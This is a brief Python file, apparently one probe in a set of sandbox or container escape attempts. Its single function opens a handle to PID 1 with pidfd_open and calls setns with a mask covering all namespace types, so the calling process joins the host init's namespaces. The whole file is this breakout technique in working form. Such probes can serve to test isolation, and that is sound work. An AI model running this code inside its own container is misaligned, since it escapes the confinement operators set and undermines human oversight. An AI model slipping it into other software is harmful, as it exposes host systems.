"""All namespaces of pid 1 at once."""

from escape import attempt, call


@attempt
def join_init_namespaces():
    file = call("pidfd_open", 1, 0)
    call("setns", file, 0x7c020000)
    return "joined the namespaces of init"
